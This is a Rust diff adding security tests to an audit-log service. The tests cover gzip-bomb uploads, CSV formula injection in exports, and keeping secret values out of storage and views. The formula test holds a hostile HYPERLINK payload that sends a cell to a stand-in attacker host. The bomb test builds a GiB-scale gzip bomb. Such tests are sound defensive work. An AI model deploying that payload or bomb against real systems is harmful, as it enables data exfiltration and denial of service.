@@ -410,3 +410,191 @@ async fn admins_post_files_of_any_format_to_the_ingest_api(pool: PgPool) {
             .unwrap();
     assert_eq!(audited, 4);
 }
+
+/// The process's peak resident memory so far, in bytes (`VmHWM` in `/proc/self/status`).
+fn peak_memory() -> u64 {
+    let status = std::fs::read_to_string("/proc/self/status").unwrap();
+    let kib = status
+        .lines()
+        .find_map(|line| line.strip_prefix("VmHWM:"))
+        .and_then(|value| {
+            value
+                .trim()
+                .trim_end_matches("kB")
+                .trim()
+                .parse::<u64>()
+                .ok()
+        })
+        .unwrap();
+    kib * 1024
+}
+
+#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
+async fn a_gzip_bomb_posted_to_the_ingest_api_is_quarantined_within_its_limit(pool: PgPool) {
+    use std::io::Write;
+    let mut context = common::context(pool.clone(), common::settings());
+    context.max_file_bytes = 16 * 1024 * 1024;
+    let app = trailkeeper::web::router(context);
+    let admin = signed_in(&pool, "ada", Role::Admin).await;
+    // About a GiB of content in about a MB of gzip: one small member repeated.
+    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+    gzip.write_all(&vec![b' '; 1024 * 1024]).unwrap();
+    let bomb = gzip.finish().unwrap().repeat(1024);
+
+    let before = peak_memory();
+    let posts = (0..4).map(|_| post_body(&app, bomb.clone(), &admin));
+    let answers = futures::future::join_all(posts).await;
+    let grew = peak_memory().saturating_sub(before);
+    assert!(
+        grew < 512 * 1024 * 1024,
+        "four GiB gzip bombs under a 16 MiB limit raised peak memory by {grew} bytes"
+    );
+    for answer in answers {
+        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{}", answer.body);
+        assert!(
+            answer
+                .body
+                .contains("larger than the limit of 16777216 bytes"),
+            "{}",
+            answer.body
+        );
+    }
+
+    // The server still answers, and still ingests.
+    let samples = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples");
+    let good = std::fs::read(samples.join("records.jsonl")).unwrap();
+    let stored = post_body(&app, good, &admin).await;
+    assert_eq!(stored.status, StatusCode::OK, "{}", stored.body);
+}
+
+#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
+async fn exports_write_formula_looking_fields_as_text(pool: PgPool) {
+    with_samples(&pool).await;
+    let hostile = "=HYPERLINK(\"http://attacker.test/?\"&A1,\"click\")";
+    let mut record = common::bobs_call(
+        "formula-1",
+        "2026-10-03T09:00:00Z",
+        "GetSecretValue",
+        serde_json::json!({ "secretId": SECRET }),
+    );
+    record["userAgent"] = Value::from(hostile);
+    record["sourceIPAddress"] = Value::from("@lambda.amazonaws.com");
+    common::ingest_records(&pool, vec![record]).await;
+    let app = app(pool.clone());
+    let auditor = signed_in(&pool, "audrey", Role::Auditor).await;
+
+    for uri in [
+        "/api/v1/events/export.csv?range=all",
+        "/api/v1/secrets/prod/payments/db/access?range=all&format=csv",
+    ] {
+        let csv = get(&app, uri, &auditor).await;
+        assert_eq!(csv.status, StatusCode::OK, "{uri}: {}", csv.body);
+        let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
+        let cells: Vec<String> = reader
+            .records()
+            .flat_map(|row| row.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect();
+        // The access report lists user agents by family: lower case, cut at the first '/'.
+        assert!(
+            cells
+                .iter()
+                .any(|cell| cell.starts_with("'=") && cell.to_lowercase().contains("hyperlink")),
+            "{uri}: the hostile user agent is exported as text: {cells:?}"
+        );
+        for cell in &cells {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{uri}: a spreadsheet would run {cell:?}"
+            );
+        }
+    }
+    let events = get(&app, "/api/v1/events/export.csv?range=all", &auditor).await;
+    assert!(
+        events
+            .body
+            .contains(&format!("'{}", hostile.replace('"', "\"\""))),
+        "{}",
+        events.body
+    );
+}
+
+#[sqlx::test(migrator = "trailkeeper::db::MIGRATOR")]
+async fn secret_values_in_posted_records_are_never_stored_shown_or_exported(pool: PgPool) {
+    let app = app(pool.clone());
+    let admin = signed_in(&pool, "ada", Role::Admin).await;
+    let canaries = [
+        "secretString",
+        "secretBinary",
+        "SecretString",
+        "SecretBinary",
+        "randomPassword",
+        "password",
+    ]
+    .map(|field| (field, format!("CANARY-{field}-7f3a")));
+    let mut request = serde_json::json!({ "secretId": SECRET });
+    let mut response = serde_json::json!({});
+    for (index, (field, canary)) in canaries.iter().enumerate() {
+        if index % 2 == 0 {
+            request[*field] = Value::from(canary.as_str());
+        } else {
+            response["nested"] = serde_json::json!([{ *field: canary }]);
+            response[*field] = Value::from(canary.as_str());
+        }
+    }
+    let mut record = common::bobs_call(
+        "canary-1",
+        "2026-10-03T09:00:00Z",
+        "PutSecretValue",
+        request.clone(),
+    );
+    record["responseElements"] = response;
+    // A record that cannot be stored is quarantined with an excerpt: hidden there too.
+    let mut broken = record.clone();
+    broken["eventID"] = Value::Null;
+    let body = serde_json::json!({ "Records": [record, broken] }).to_string();
+    let stored = post_body(&app, body.into_bytes(), &admin).await;
+    assert_eq!(stored.status, StatusCode::OK, "{}", stored.body);
+    assert!(stored.body.contains("\"new\":1"), "{}", stored.body);
+    assert!(stored.body.contains("\"quarantined\":1"), "{}", stored.body);
+
+    let auditor = signed_in(&pool, "audrey", Role::Auditor).await;
+    let shown = [
+        get(&app, "/events/canary-1", &auditor).await.body,
+        get(&app, "/api/v1/events?range=all", &auditor).await.body,
+        get(&app, "/api/v1/events/export.jsonl?range=all", &auditor)
+            .await
+            .body,
+        get(&app, "/api/v1/events/export.csv?range=all", &auditor)
+            .await
+            .body,
+    ];
+    assert!(shown[0].contains("HIDDEN_BY_TRAILKEEPER"), "{}", shown[0]);
+    assert!(shown[2].contains("HIDDEN_BY_TRAILKEEPER"), "{}", shown[2]);
+
+    let database: String = sqlx::query_scalar("SELECT current_database()")
+        .fetch_one(&pool)
+        .await
+        .unwrap();
+    // `make test` runs under `trailkeeper db run`, which sets libpq's PGHOST and friends.
+    let dump = std::process::Command::new("pg_dump")
+        .args(["--data-only", "--dbname", &database])
+        .output()
+        .unwrap();
+    assert!(
+        dump.status.success(),
+        "{}",
+        String::from_utf8_lossy(&dump.stderr)
+    );
+    let dump = String::from_utf8_lossy(&dump.stdout);
+    assert!(dump.contains("canary-1"), "the dump holds the event");
+    assert!(dump.contains("HIDDEN_BY_TRAILKEEPER"));
+    for (field, canary) in &canaries {
+        assert!(
+            !dump.contains(canary.as_str()),
+            "{field}'s value is in the database"
+        );
+        for text in &shown {
+            assert!(!text.contains(canary.as_str()), "{field}'s value is shown");
+        }
+    }
+}
